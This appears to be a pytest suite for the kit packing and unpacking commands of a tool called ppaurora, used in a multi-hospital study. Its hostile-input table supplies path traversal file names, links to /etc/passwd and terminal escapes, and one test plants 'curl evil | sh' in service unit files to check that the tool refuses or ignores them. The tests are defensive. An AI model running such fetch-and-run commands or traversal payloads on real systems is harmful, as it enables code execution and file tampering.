"""Kits as one file each: what `provision --pack` writes, and what `unpack` takes."""

from __future__ import annotations

import errno
import hashlib
import json
import shutil
import tarfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from ppaurora.cli.main import cli
from ppaurora.credentials.certificates import Authority
from ppaurora.io.models import from_json
from ppaurora.study import pack
from ppaurora.study.kit import read_kit
from ppaurora.study.manifest import Manifest
from ppaurora.study.pack import PackedKit
from ppaurora.study.plan import SAMPLE
from ppaurora.study.provision import provision
from ppaurora.study.units import UNITS
from tests.support.packs import NAMES, OWNERS, said, unpack

NO_KIT = "is not a kit written by 'ppaurora provision --pack', or is incomplete; ask for it again"


@pytest.fixture
def packs(plan: Path, tmp_path: Path) -> Path:
    """Kits as files, beside an empty folder in which the tests work."""
    provision(plan, tmp_path / "packs", packed=True)
    return tmp_path / "packs"


def modes(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.rglob("*")):
        yield str(path.relative_to(folder)), oct(path.stat().st_mode & 0o777)


def test_keys_are_in_the_files_and_nowhere_else(packs: Path) -> None:
    assert sorted(path.stem for path in packs.glob("*.kit")) == sorted(NAMES)
    assert {path.stat().st_mode & 0o777 for path in packs.glob("*.kit")} == {0o600}
    assert packs.stat().st_mode & 0o777 == 0o700
    private = {path for path in packs.rglob("*") if path.is_file() and b"PRIVATE" in path.read_bytes()}
    assert private == {*packs.glob("*.kit"), packs / "authority/key.pem"}


@pytest.mark.parametrize("name", NAMES)
def test_a_kit_is_set_up_for_its_owners_eyes_only(packs: Path, here: Path, name: str) -> None:
    shutil.copy(packs / f"{name}.kit", here / "kit.kit")
    result = unpack("kit.kit", "--delete")
    assert result.exit_code == 0, result.output
    manifest = Manifest.read(packs / "sepsis-2026.json")
    kit = read_kit(here / "kit")
    kit.check_key()
    kit.check_own(manifest)
    settings = "owner.toml" if name in OWNERS else "node.toml"
    assert (here / "kit").stat().st_mode & 0o777 == 0o700
    assert list(modes(here / "kit")) == sorted(
        [
            *((file, "0o600") for file in ("authority.pem", "certificate.pem", "key.pem", settings)),
            ("studies", "0o700"),
            ("studies/sepsis-2026.json", "0o600"),
        ]
    )
    assert [path.name for path in here.iterdir()] == ["kit"]  # the file is deleted
    who = f"owner {name}" if name in OWNERS else f"node {name.replace('-', ' ')}"
    following = ["next: ppaurora accept kit kit/studies/sepsis-2026.json"]
    if name in OWNERS:
        following = [
            "next: ppaurora preflight kit",
            "then, in a browser: ppaurora app kit",
            "or here: ppaurora check DATA --kit kit, and ppaurora submit kit DATA",
        ]
    assert result.output.splitlines() == [
        f"kit: the kit of {who}, for study sepsis-2026",
        f"hash {manifest.hash}",
        "compare the hash with the other participants', over another channel than the kit came by",
        "its files are for your eyes only (modes 0700 and 0600)",
        *following,
    ]


def test_a_file_that_stays_is_warned_of(packs: Path, here: Path) -> None:
    file = packs / "helper.kit"
    warning = f"warning: {file} holds the same key; delete it: rm {file}"
    assert unpack(file, "--into", "one").output.splitlines()[-1] == warning
    file.chmod(0o644)
    read = warning.replace("key;", "key, and others on this machine can read it;")
    assert unpack(file).output.splitlines()[-1] == read
    assert sorted(path.name for path in here.iterdir()) == ["helper", "one"]
    assert (here / "helper/key.pem").stat().st_mode & 0o777 == 0o600


Change = Callable[[dict[str, Any]], None]


def with_file(name: str, content: str) -> Change:
    """As somebody would pack it who knows how: with its digest."""

    def change(packed: dict[str, Any]) -> None:
        digest = hashlib.sha256(content.encode()).hexdigest()
        packed["files"][name] = {"sha256": digest, "content": content}

    return change


def without(name: str) -> Change:
    return lambda packed: packed["files"].pop(name)


def with_word(word: str, value: object) -> Change:
    return lambda packed: packed.update({word: value})


def of(other: str, name: str) -> Change:
    """A file of another participant's."""

    def change(packed: dict[str, Any]) -> None:
        packed["files"][name] = packed["others"][other]["files"][name]

    return change


def changed_on_the_way(packed: dict[str, Any]) -> None:
    packed["files"]["owner.toml"]["content"] += "\n"


def a_link(packed: dict[str, Any]) -> None:
    packed["files"]["key.pem"] = {"sha256": "0" * 64, "content": "", "link": "/etc/passwd"}


def half_a_letter(packed: dict[str, Any]) -> None:
    packed["files"]["owner.toml"]["content"] += "\ud800"


NO_FILE = "which is not part of a kit; nothing was unpacked"
HOSTILE: dict[str, tuple[Change, str]] = {
    "half a letter": (
        half_a_letter,
        "owner.toml was changed on the way; ask for it again; nothing was unpacked",
    ),
    "a unit for an owner": (
        with_file("ppaurora.service", "[Service]\n"),
        f"holds 'ppaurora.service', {NO_FILE}",
    ),
    "path traversal": (with_file("../evil", ""), f"holds '../evil', {NO_FILE}"),
    "path traversal below": (with_file("studies/../../evil", ""), f"holds 'studies/../../evil', {NO_FILE}"),
    "path traversal on Windows": (with_file("..\\evil", ""), f"holds '..\\evil', {NO_FILE}"),
    "a path below on Windows": (with_file("studies\\x.json", ""), f"holds 'studies\\x.json', {NO_FILE}"),
    "a drive": (with_file("C:\\evil", ""), f"holds 'C:\\evil', {NO_FILE}"),
    "a drive's own folder": (with_file("C:key.pem", ""), f"holds 'C:key.pem', {NO_FILE}"),
    "another stream of a file": (with_file("key.pem:evil", ""), f"holds 'key.pem:evil', {NO_FILE}"),
    "a device": (with_file("NUL", ""), f"holds 'NUL', {NO_FILE}"),
    "the same file in capitals": (with_file("KEY.PEM", ""), f"holds 'KEY.PEM', {NO_FILE}"),
    "a study of another folder": (
        with_word("study", "..\\..\\evil"),
        "study: expected a name of small letters, digits and hyphens",
    ),
    "an absolute path": (with_file("/etc/evil", ""), f"holds '/etc/evil', {NO_FILE}"),
    "control of the terminal": (with_file("\x1b[2J", ""), f"holds '?[2J', {NO_FILE}"),
    "a node's database": (with_file("data/node.db", ""), f"holds 'data/node.db', {NO_FILE}"),
    "another study's manifest": (
        with_file("studies/other.json", ""),
        f"holds 'studies/other.json', {NO_FILE}",
    ),
    "a symbolic link": (a_link, "files.key.pem.link: there is no such setting; there are: sha256, content"),
    "a changed file": (
        changed_on_the_way,
        "owner.toml was changed on the way; ask for it again; nothing was unpacked",
    ),
    "no certificate": (
        without("certificate.pem"),
        "lacks certificate.pem; ask for a new one; nothing was unpacked",
    ),
    "no manifest": (
        without("studies/sepsis-2026.json"),
        "lacks studies/sepsis-2026.json; ask for a new one; nothing was unpacked",
    ),
    "no settings": (
        without("owner.toml"),
        "lacks either node.toml or owner.toml; ask for a new one; nothing was unpacked",
    ),
    "two kinds of settings": (
        with_file("node.toml", 'role = "helper"'),
        "lacks either node.toml or owner.toml; ask for a new one; nothing was unpacked",
    ),
    "bad settings": (
        with_file("owner.toml", "name = 7"),
        "owner.toml: name: expected a name of small letters, digits and hyphens; nothing was unpacked",
    ),
    "another's name": (
        with_word("participant", "hospital-b"),
        "says that it is for hospital-b, and holds the settings of hospital-a; nothing was unpacked",
    ),
    "another's key": (
        of("hospital-b", "key.pem"),
        "key.pem: is not the key of certificate.pem; nothing was unpacked",
    ),
    "another's certificate": (
        of("hospital-b", "certificate.pem"),
        "owner.toml: name: is 'hospital-a', but the key of this kit is that of 'hospital-b' in study "
        "sepsis-2026; take the kit as it was handed over; nothing was unpacked",
    ),
    "another hash": (
        with_word("hash", "0" * 64),
        "holds another manifest than it says; nothing was unpacked",
    ),
    "a newer version": (with_word("version", 2), "version: invalid enum value 2"),
    "something else": (with_word("format", "a picture"), NO_KIT),
    "more than there is": (
        with_word("run", "rm"),
        "run: there is no such setting; there are: format, version, participant, study, hash, files",
    ),
    "no text": (with_word("files", {"key.pem": 7}), "files.key.pem: expected object, got int"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_file_that_is_no_kit_of_ours_is_refused(packs: Path, here: Path, case: str) -> None:
    change, message = HOSTILE[case]
    packed = json.loads((packs / "hospital-a.kit").read_text())
    packed["others"] = {name: json.loads((packs / f"{name}.kit").read_text()) for name in NAMES}
    change(packed)
    del packed["others"]
    (here / "mine.kit").write_text(json.dumps(packed))
    assert said(unpack("mine.kit")) == f"mine.kit: {message}"
    assert [path.name for path in here.iterdir()] == ["mine.kit"]
    assert not (here.parent / "evil").exists()


def test_what_a_machine_runs_is_not_taken_from_the_file(plan: Path, here: Path, tmp_path: Path) -> None:
    """The manifest's hash, which people compare, does not cover units, which anybody could write."""
    provision(plan, tmp_path / "units", units=UNITS)
    provision(plan, tmp_path / "packs", packed=True, units=UNITS)
    packed = json.loads((tmp_path / "packs/proxy-0.kit").read_text())
    for unit in UNITS:
        with_file(unit, packed["files"][unit]["content"].replace("serve", "curl evil | sh"))(packed)
    (here / "kit.kit").write_text(json.dumps(packed))
    assert unpack("kit.kit").exit_code == 0
    for unit in UNITS:
        assert (here / "kit" / unit).read_text() == (tmp_path / "units/proxy-0" / unit).read_text()
        assert (here / "kit" / unit).stat().st_mode & 0o777 == 0o600


def test_a_full_disk_is_said_and_leaves_nothing(
    packs: Path, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(path: Path, content: bytes) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pack, "write_secret", full)
    told = said(unpack(packs / "hospital-a.kit", "--into", "kit"))
    assert told == "kit: cannot be written: No space left on device; nothing was unpacked"
    assert list(here.iterdir()) == []


def test_the_same_file_unchanged_is_taken(packs: Path, here: Path) -> None:
    """The positive control of the table above."""
    packed = json.loads((packs / "hospital-a.kit").read_text())
    (here / "mine.kit").write_text(json.dumps(packed))
    assert unpack("mine.kit").exit_code == 0


@pytest.mark.parametrize(
    "content",
    [b"", b"\x00\xff\xfe", b"[]", b"7", b"{", b'{"format"', b"[" * 100_000, b"PK\x03\x04 an archive"],
)
def test_a_file_of_another_kind_is_refused(here: Path, content: bytes) -> None:
    (here / "mine.kit").write_bytes(content)
    assert said(unpack("mine.kit")) == f"mine.kit: {NO_KIT}"
    assert [path.name for path in here.iterdir()] == ["mine.kit"]


def test_an_archive_with_a_link_is_refused(here: Path) -> None:
    with tarfile.open(here / "mine.kit", "w") as archive:
        link = tarfile.TarInfo("key.pem")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    assert said(unpack("mine.kit")) == f"mine.kit: {NO_KIT}"


def test_a_manifest_is_no_packed_kit(packs: Path, here: Path) -> None:
    shutil.copy(packs / "sepsis-2026.json", here / "mine.kit")
    assert said(unpack("mine.kit")) == f"mine.kit: {NO_KIT}"


def test_a_file_that_is_too_large_is_not_read(here: Path) -> None:
    with (here / "mine.kit").open("wb") as file:
        file.truncate(10 << 30)
    assert said(unpack("mine.kit")) == "mine.kit: is larger than any kit (16 MB)"


def test_what_is_not_there_or_not_named_is_said(packs: Path, here: Path) -> None:
    assert said(unpack("mine.kit")) == "mine.kit: there is no such file"
    shutil.copy(packs / "hospital-a.kit", here / "mine.json")
    unnamed = "mine.json: is not called NAME.kit; if it is a kit, name a new folder with --into"
    assert said(unpack("mine.json")) == unnamed
    assert said(unpack("mine.json", "--into", "no/kit")).endswith(f"the folder {here}/no does not exist")


def test_nothing_is_overwritten(packs: Path, here: Path) -> None:
    (here / "empty").mkdir()
    (here / "link").symlink_to(here / "elsewhere")
    for name in ("empty", "link"):
        assert said(unpack(packs / "hospital-a.kit", "--into", name)) == (
            f"{name}: exists; name a new folder with --into, so that no kit is overwritten"
        )
    assert list((here / "empty").iterdir()) == []
    assert not (here / "elsewhere").exists()


def test_a_file_that_is_called_like_another_participant_is_refused(packs: Path, here: Path) -> None:
    shutil.copy(packs / "hospital-a.kit", here / "hospital-b.kit")
    assert said(unpack("hospital-b.kit")) == (
        "hospital-b.kit: is the kit of hospital-a, not of hospital-b; if it is meant for you, give the file "
        "another name; nothing was unpacked"
    )


def test_another_manifest_than_the_expected_one_is_refused(packs: Path, here: Path) -> None:
    file = packs / "hospital-a.kit"
    refused = said(unpack(file, "--expect-hash", "0" * 64))
    assert refused.endswith("which is not the expected one; nothing was done; nothing was unpacked")
    assert list(here.iterdir()) == []
    expected = Manifest.read(packs / "sepsis-2026.json").hash
    assert unpack(file, "--expect-hash", expected).exit_code == 0


def test_an_own_key_is_moved_into_the_kit(plan: Path, here: Path, tmp_path: Path) -> None:
    authority = Authority.make("a hospital", timedelta(days=100))
    issued = authority.issue("hospital-c", timedelta(days=50))
    (tmp_path / "c.pem").write_bytes(issued.certificate)
    (tmp_path / "ca.pem").write_bytes(authority.certificate)
    own = '[owners.hospital-c]\ncertificate = "c.pem"\nauthority = "ca.pem"'
    plan.write_text(SAMPLE.replace("[owners.hospital-c]", own))
    provision(plan, tmp_path / "packs", packed=True)
    file = tmp_path / "packs/hospital-c.kit"
    assert b"PRIVATE" not in file.read_bytes()
    assert (
        "first: mv YOUR-KEY.pem later/key.pem\nnext: ppaurora preflight later\n"
        in unpack(file, "--into", "later").output
    )

    (here / "own.pem").write_bytes(issued.key)
    (here / "other.pem").write_bytes(authority.key)
    refused = said(unpack(file, "--key", "other.pem"))
    assert refused == f"{file}: key.pem: is not the key of certificate.pem; nothing was unpacked"
    assert said(unpack(tmp_path / "packs/hospital-a.kit", "--key", "own.pem")).endswith(
        "has a key already; leave out --key own.pem; nothing was unpacked"
    )
    assert said(unpack(file, "--key", "no.pem")).startswith("no.pem: cannot be read: No such file")
    assert unpack(file, "--key", "own.pem").exit_code == 0
    assert sorted(path.name for path in here.iterdir()) == ["hospital-c", "later", "other.pem"]
    assert (here / "hospital-c/key.pem").stat().st_mode & 0o777 == 0o600
    read_kit(here / "hospital-c").check_key()


def test_of_the_next_study_only_new_participants_get_a_file(packs: Path, plan: Path, tmp_path: Path) -> None:
    text = SAMPLE.replace("sepsis-2026", "sepsis-2027")
    plan.write_text(text)
    arguments = ["provision", str(plan), "--reuse", str(packs), "--pack"]
    none = CliRunner().invoke(cli, [*arguments, "--out", str(tmp_path / "same")])
    assert f"nothing is packed: all have their kits from {packs}; send them the manifest" in none.output
    plan.write_text(text.replace("[owners.hospital-c]", "[owners.hospital-d]"))
    one = CliRunner().invoke(cli, [*arguments, "--out", str(tmp_path / "more")])
    assert one.exit_code == 0
    assert [path.name for path in (tmp_path / "more").glob("*.kit")] == ["hospital-d.kit"]


def test_a_packed_kit_does_not_show_its_key(packs: Path) -> None:
    packed = from_json(PackedKit, (packs / "helper.kit").read_bytes())
    assert "PRIVATE" in packed.files["key.pem"].content
    for shown in (repr(packed), str(packed), repr(packed.files["key.pem"])):
        assert "PRIVATE" not in shown
        assert "BEGIN" not in shown
